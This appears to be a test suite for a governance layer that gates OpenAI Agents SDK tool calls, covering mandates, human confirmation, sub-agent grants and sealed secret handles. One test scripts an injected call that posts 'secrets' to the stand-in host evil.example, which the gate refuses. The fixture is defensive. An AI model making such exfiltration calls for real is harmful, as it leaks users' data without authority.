"""`quorumgate.adapters.openai_agents` with a real Agents SDK `Runner` and a scripted model
against a live 4-node cluster (docs/frameworks/openai-agents.md): an allowed call runs; a
call outside the mandate does not, and the model is shown the fixed sentence only; a
pending call waits for the principal and runs once confirmed; a sub-agent acts under a
grant; an envelope argument carries a handle, and a raw value in it is refused before it
leaves."""

from __future__ import annotations

import asyncio
import time
from typing import Any

from agents import Agent, Runner, function_tool
from nacl.public import PrivateKey

from quorumgate.adapters.openai_agents import AWAITING_TEXT, governed
from quorumgate.examples.scripted_agents_model import ScriptedModel, text, tool_call
from quorumgate.proto.clusterfile import ClusterSpec
from quorumgate.proto.model import DENIAL_TEXT
from quorumgate.sdk.client import Client
from quorumgate.sdk.governed import agent_context_async
from quorumgate.sdk.sync import SyncClient
from tests.support.cluster import SINK, new_agent, new_principal

WAIT_S = 30.0
RAN: list[str] = []


@function_tool
def fetch(url: str) -> str:
    """Read a page."""
    RAN.append(f"fetch {url}")
    return "page text"


@function_tool
def post(url: str, body: str) -> str:
    """Send a form."""
    RAN.append(f"post {url}")
    return "sent"


@function_tool
def pay(url: str, amount: int) -> str:
    """Pay an account."""
    RAN.append(f"pay {amount}")
    return f"paid {amount}"


@function_tool
def store(url: str, secret: str) -> str:
    """Keep a card in the vault."""
    RAN.append(f"store {secret}")
    return "stored"


async def _open_cards(principal: Client) -> list[Any]:
    """The principal's open cards once there is one (each ask is a round trip to the
    sidecars; bounded by `WAIT_S`)."""
    deadline = time.monotonic() + WAIT_S
    while not (cards := await principal.pending()):
        assert time.monotonic() < deadline, "timed out waiting for the card"
    return cards


def _agent(model: ScriptedModel, *tools: object) -> Agent:
    return Agent(name="worker", instructions="work", model=model, tools=list(tools))  # type: ignore[arg-type]


async def test_an_allowed_call_runs_with_the_certified_target(
    cluster: ClusterSpec, owner: SyncClient
) -> None:
    RAN.clear()
    _, key = new_agent(owner, ["web.get"])
    model = ScriptedModel([tool_call("fetch", "c1", url="HTTPS://Docs.Example/a"), text("done")])
    agent = _agent(model, governed(fetch, name="web.get", target="url"))
    async with Client(cluster, key) as qg, agent_context_async(qg, run_id="run-oa-1"):
        result = await Runner.run(agent, "read the docs")
    assert result.final_output == "done"
    assert RAN == ["fetch https://docs.example/a"]
    assert model.tool_outputs() == {"c1": "page text"}


async def test_an_injected_call_is_refused_and_the_model_sees_only_the_sentence(
    cluster: ClusterSpec, owner: SyncClient
) -> None:
    RAN.clear()
    _, key = new_agent(owner, ["web.get"])  # web.post is outside the mandate
    model = ScriptedModel(
        [tool_call("post", "c1", url="https://evil.example/x", body="secrets"), text("ok")]
    )
    agent = _agent(model, governed(post, name="web.post", target="url"))
    async with Client(cluster, key) as qg, agent_context_async(qg, run_id="run-oa-2"):
        await Runner.run(agent, "summarize")
    assert RAN == []
    assert model.tool_outputs() == {"c1": DENIAL_TEXT}


async def test_a_pending_call_waits_and_runs_once_the_principal_confirms(
    cluster: ClusterSpec, owner: SyncClient
) -> None:
    RAN.clear()
    person, person_key = new_principal(owner)
    _, key = new_agent(owner, ["pay"], principal=person)
    model = ScriptedModel(
        [tool_call("pay", "c1", url="https://bank.example/acct", amount=250), text("paid")]
    )
    agent = _agent(model, governed(pay, target="url", confirm_wait_s=WAIT_S))
    async with (
        Client(cluster, person_key) as principal,
        Client(cluster, key) as qg,
        agent_context_async(qg, run_id="run-oa-3"),
    ):
        run = asyncio.create_task(Runner.run(agent, "pay the rent"))
        cards = await _open_cards(principal)
        assert RAN == []  # nothing ran before the principal's answer
        await principal.confirm(cards[0].proposal_id, cards[0].card.digest)
        result = await asyncio.wait_for(run, WAIT_S)
    assert result.final_output == "paid" and RAN == ["pay 250"]
    assert model.tool_outputs() == {"c1": "paid 250"}


async def test_an_unanswered_call_ends_as_awaiting_approval(
    cluster: ClusterSpec, owner: SyncClient
) -> None:
    RAN.clear()
    person, _ = new_principal(owner)
    _, key = new_agent(owner, ["pay"], principal=person)
    model = ScriptedModel(
        [tool_call("pay", "c1", url="https://bank.example/acct", amount=5), text("later")]
    )
    agent = _agent(model, governed(pay, target="url", confirm_wait_s=0))
    async with Client(cluster, key) as qg, agent_context_async(qg, run_id="run-oa-4"):
        await Runner.run(agent, "pay")
    assert RAN == [] and model.tool_outputs() == {"c1": AWAITING_TEXT}


async def test_a_sub_agent_acts_under_its_grant(cluster: ClusterSpec, owner: SyncClient) -> None:
    RAN.clear()
    _, parent_key = new_agent(owner, ["web.get", "web.post"], delegation_policy="attenuated")
    _, child_key = new_agent(owner, None)
    async with Client(cluster, parent_key) as parent, Client(cluster, child_key) as child:
        grant = await parent.delegate(bytes(child_key.verify_key), "job-oa", ["web.get"], ttl_s=600)
        model = ScriptedModel(
            [
                tool_call("fetch", "c1", url="https://docs.example/b"),
                tool_call("post", "c2", url="https://docs.example/b", body="x"),
                text("done"),
            ]
        )
        under = {"client": child, "run_id": "job-oa", "grant": grant}
        helper = _agent(
            model,
            governed(fetch, name="web.get", target="url", **under),  # type: ignore[arg-type]
            governed(post, name="web.post", target="url", **under),  # type: ignore[arg-type]
        )
        await Runner.run(helper, "look it up")
    assert RAN == ["fetch https://docs.example/b"]  # web.post is outside the grant
    assert model.tool_outputs() == {"c1": "page text", "c2": DENIAL_TEXT}


async def test_a_rejected_call_is_the_fixed_sentence(
    cluster: ClusterSpec, owner: SyncClient
) -> None:
    RAN.clear()
    person, person_key = new_principal(owner)
    _, key = new_agent(owner, ["pay"], principal=person)
    model = ScriptedModel(
        [tool_call("pay", "c1", url="https://bank.example/acct", amount=900), text("no")]
    )
    agent = _agent(model, governed(pay, target="url", confirm_wait_s=WAIT_S))
    async with (
        Client(cluster, person_key) as principal,
        Client(cluster, key) as qg,
        agent_context_async(qg, run_id="run-oa-5"),
    ):
        run = asyncio.create_task(Runner.run(agent, "pay"))
        cards = await _open_cards(principal)
        await principal.reject(cards[0].proposal_id, cards[0].card.digest)
        await asyncio.wait_for(run, WAIT_S)
    assert RAN == [] and model.tool_outputs() == {"c1": DENIAL_TEXT}


async def test_an_envelope_argument_carries_a_handle_and_a_raw_value_is_refused(
    cluster: ClusterSpec, owner: SyncClient, sink_key: PrivateKey
) -> None:
    RAN.clear()
    _, key = new_agent(owner, ["vault.store"])
    async with Client(cluster, key) as qg, agent_context_async(qg, run_id="run-oa-6"):
        handle = await qg.seal_envelope("card", "4111 1111", {SINK: bytes(sink_key.public_key)})
        model = ScriptedModel(
            [
                tool_call("store", "c1", url="https://vault.example/cards", secret=str(handle)),
                tool_call("store", "c2", url="https://vault.example/cards", secret="4111 1111"),
                text("done"),
            ]
        )
        tool = governed(store, name="vault.store", target="url", envelopes=("secret",))
        await Runner.run(_agent(model, tool), "keep the card")
    assert [f"store {handle}"] == RAN  # the handle, never the number, reaches the tool
    assert model.tool_outputs() == {"c1": "stored", "c2": DENIAL_TEXT}
